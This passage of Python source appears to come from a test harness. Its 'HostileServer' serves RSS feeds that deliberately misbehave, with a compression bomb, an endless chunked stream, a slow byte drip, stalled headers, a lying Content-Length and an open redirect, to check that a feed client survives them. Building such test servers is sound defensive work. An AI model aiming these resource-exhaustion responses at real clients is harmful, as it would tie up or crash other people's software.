    def _raw(self, conn: _Connection, request: _Request) -> None:
        conn.send(self.raw[request.path])

    def _ok(self, conn: _Connection, request: _Request) -> None:
        validators = [("ETag", ETAG), ("Last-Modified", _http_date(LAST_MODIFIED))]
        if _not_modified(request.headers):
            conn.respond(304, headers=validators)
        else:
            conn.respond(200, OK_FEED, RSS_TYPE, validators)

    def _redirect_chain(self, conn: _Connection, request: _Request) -> None:
        tail = request.path.removeprefix("/redirect-chain/")
        if not tail.isdigit() or int(tail) > MAX_REDIRECT_CHAIN:
            self._error(404)(conn, request)
        elif int(tail) == 0:
            self._ok(conn, request)
        else:
            location = f"/redirect-chain/{int(tail) - 1}"
            conn.respond(302, b"", None, [("Location", location)])

    def _aliased(self, conn: _Connection, request: _Request) -> None:
        target = urlsplit(self.aliases[request.path])
        query = parse_qs(target.query) or request.query
        aliased = _Request(request.method, target.path, query, request.headers)
        if target.path in self.aliases:  # no alias chains: they could loop
            self._error(404)(conn, aliased)
        else:
            self._handler_for(target.path)(conn, aliased)

    def _last_modified_only(self, conn: _Connection, request: _Request) -> None:
        # Validators without an ETag: only If-Modified-Since can make this a 304.
        validators = [("Last-Modified", _http_date(LAST_MODIFIED))]
        since = request.headers.get("if-modified-since")
        if since and _not_modified({"if-modified-since": since}):
            conn.respond(304, headers=validators)
        else:
            conn.respond(200, OK_FEED, RSS_TYPE, validators)

    def _generated(self, conn: _Connection, request: _Request) -> None:
        """`/gen/NAME.xml?items=N&delay=SECONDS`: a small valid feed of its own.

        Entries are unique to NAME and stable across requests (so a re-poll changes
        nothing); the ETag is too, so a conditional request gets a 304. `delay` holds the
        answer back first (bounded by the connection cap), for slow-server cases."""
        name = request.path.removeprefix("/gen/").removesuffix(".xml")
        items = min(int((request.query.get("items") or ["3"])[0]), 500)
        delay = min(float((request.query.get("delay") or ["0"])[0]), 30.0)
        if delay and not conn.idle(delay):
            return
        etag = f'"gen-{name}-{items}"'
        if etag in request.headers.get("if-none-match", ""):
            conn.respond(304, headers=[("ETag", etag)])
            return
        site = f"https://gen.example/{name}"
        body = _rss(
            f"Generated feed {name}",
            f"{site}/",
            [
                _item(
                    f"Story {k} from feed {name}",
                    f"{site}/story/{k}",
                    _date(2025, 1, 1 + k % 28, k % 24),
                    f"Story {k} of the generated feed {name}.",
                    guid=f"{site}/story/{k}",
                )
                for k in range(items)
            ],
        ).encode()
        conn.respond(200, body, RSS_TYPE, [("ETag", etag)])

    def _redirect_to(self, conn: _Connection, request: _Request) -> None:
        targets = request.query.get("url")
        if not targets:
            conn.respond(400, b"missing ?url=\n", "text/plain")
        else:
            conn.respond(302, b"", None, [("Location", targets[0])])

    def _huge(self, conn: _Connection, request: _Request) -> None:
        headers = [("Content-Type", RSS_TYPE), ("Content-Length", str(HUGE_BODY_BYTES))]
        if conn.send_head(200, headers) and conn.method != "HEAD":
            conn.stream(huge_feed_chunks())

    def _huge_no_length(self, conn: _Connection, request: _Request) -> None:
        # No Content-Length and no chunking: the body ends when we close.
        if conn.send_head(200, [("Content-Type", RSS_TYPE)]) and conn.method != "HEAD":
            conn.stream(huge_feed_chunks())

    def _bomb(self, conn: _Connection, encoding: str) -> None:
        body = bomb_body(encoding, abort=self._stop.is_set)
        if body is None:
            return
        headers = [
            ("Content-Type", RSS_TYPE),
            ("Content-Encoding", encoding),
            ("Content-Length", str(len(body))),
        ]
        if conn.send_head(200, headers) and conn.method != "HEAD":
            step = 64 * 1024
            conn.stream(body[i : i + step] for i in range(0, len(body), step))

    def _endless_chunked(self, conn: _Connection, request: _Request) -> None:
        headers = [("Content-Type", RSS_TYPE), ("Transfer-Encoding", "chunked")]
        if not conn.send_head(200, headers) or conn.method == "HEAD":
            return
        chunks = huge_feed_chunks(10**15)  # effectively infinite, generated lazily
        # Never sends the terminating zero-length chunk: it stops only when the
        # client leaves, stop() runs, or the connection cap / chunk cap is hit.
        for _, chunk in zip(range(ENDLESS_MAX_CHUNKS), chunks, strict=False):
            if not conn.send(b"%x\r\n%s\r\n" % (len(chunk), chunk)):
                return

    def _slow_drip(self, conn: _Connection, request: _Request) -> None:
        body = OK_FEED[:DRIP_MAX_BYTES]
        headers = [("Content-Type", RSS_TYPE), ("Content-Length", str(len(body)))]
        if not conn.send_head(200, headers) or conn.method == "HEAD":
            return
        for index in range(len(body)):
            if not conn.send(body[index : index + 1]):
                return
            if index + 1 < len(body) and not conn.idle(DRIP_INTERVAL_SECONDS):
                return

    def _slow_headers(self, conn: _Connection, request: _Request) -> None:
        conn.idle(SLOW_HEADERS_SECONDS)  # then close without a response

    def _lying_length(self, conn: _Connection, request: _Request) -> None:
        headers = [("Content-Type", RSS_TYPE), ("Content-Length", str(LYING_LENGTH_CLAIMED))]
        if conn.send_head(200, headers) and conn.method != "HEAD":
            sample = b"".join(huge_feed_chunks(LYING_LENGTH_CLAIMED))
            conn.send(sample[:LYING_LENGTH_SENT])


def _not_modified(headers: dict[str, str]) -> bool:
    """RFC 9110 conditional GET: If-None-Match wins over If-Modified-Since."""
    if_none_match = headers.get("if-none-match")
    if if_none_match is not None:
        tags = [tag.strip().removeprefix("W/") for tag in if_none_match.split(",")]
        return ETAG in tags or "*" in tags
    if_modified_since = headers.get("if-modified-since")
    if if_modified_since is None:
        return False
    try:
        since = email.utils.parsedate_to_datetime(if_modified_since)
    except (TypeError, ValueError):
        return False
    if since.tzinfo is None:
        since = since.replace(tzinfo=UTC)
    return since >= LAST_MODIFIED


def raw_response(status_line: bytes, headers: Iterable[tuple[bytes, bytes]] = (), body: bytes = b"") -> bytes:
    """A whole HTTP/1.1 response as bytes for `HostileServer.raw`: the status line (e.g.
    ``b"HTTP/1.1 500 Oops [/x]"``) and header values exactly as given (any byte but CR/LF),
    with Content-Length and Connection: close added."""
    lines = [status_line, *(name + b": " + value for name, value in headers)]
    lines += [b"Content-Length: %d" % len(body), b"Connection: close"]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body
